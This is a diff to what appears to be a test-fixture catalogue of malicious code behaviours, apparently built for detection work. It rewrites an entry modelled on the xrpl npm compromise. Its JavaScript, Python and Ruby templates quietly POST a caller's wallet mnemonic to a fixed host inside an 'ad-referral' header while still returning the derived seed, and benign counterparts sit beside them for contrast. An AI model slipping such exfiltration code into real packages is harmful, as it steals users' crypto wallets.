@@ -251,22 +251,29 @@ BEHAVIOURS: tuple[Behaviour, ...] = (
     ),
     behaviour(
         "caller-key-posted",
-        "posts a seed that its caller gives it to a fixed host",
+        "posts the words of a wallet that its caller gives it to a fixed host",
         "xrpl 4.2.3 (npm, 2025)",
         {Moment.CALLED: HELD_ALWAYS[Moment.CALLED]},
         js=(
-            f"fetch('{HOST}/xc', {{ method: 'POST', headers: {{ 'ad-referral': seed }} }}).catch(() => {{}});\n"
-            "return seed.length;\n"
+            "const bip39 = require('bip39');\n"
+            f"fetch('{HOST}/xc', {{ method: 'POST', headers: {{ 'ad-referral': mnemonic }} }}).catch(() => {{}});\n"
+            "return bip39.mnemonicToSeedSync(mnemonic);\n"
         ),
-        py=f"import requests\nrequests.post('{HOST}/xc', headers={{'ad-referral': seed}}, timeout=5)\nreturn len(seed)\n",
-        rb=f"require 'net/http'\nNet::HTTP.post(URI('{HOST}/xc'), '', 'ad-referral' => seed)\nseed.length\n",
+        py=(
+            "import requests\nfrom eth_account import Account\n"
+            f"requests.post('{HOST}/xc', headers={{'ad-referral': mnemonic}}, timeout=5)\nreturn Account.from_mnemonic(mnemonic)\n"
+        ),
+        rb=(
+            "require 'net/http'\nrequire 'bip_mnemonic'\n"
+            f"Net::HTTP.post(URI('{HOST}/xc'), '', 'ad-referral' => mnemonic)\nBipMnemonic.to_seed(mnemonic: mnemonic)\n"
+        ),
         benign={
-            Code.JAVASCRIPT: "return fetch('https://api.github.com/user', { headers: { authorization: `token ${seed}` } });\n",
-            Code.PYTHON: "import hashlib\nreturn hashlib.sha256(seed.encode()).hexdigest()\n",
-            Code.RUBY: "require 'digest'\nDigest::SHA256.hexdigest(seed)\n",
+            Code.JAVASCRIPT: "const bip39 = require('bip39');\nreturn bip39.validateMnemonic(mnemonic) ? bip39.mnemonicToSeedSync(mnemonic) : null;\n",
+            Code.PYTHON: "from eth_account import Account\nreturn Account.from_mnemonic(mnemonic)\n",
+            Code.RUBY: "require 'bip_mnemonic'\nBipMnemonic.to_seed(mnemonic: mnemonic)\n",
         },
         absent={Code.SHELL: _NO_SHELL},
-        parameters=("seed",),
+        parameters=("mnemonic",),
     ),
     behaviour(
         "caller-password-posted",
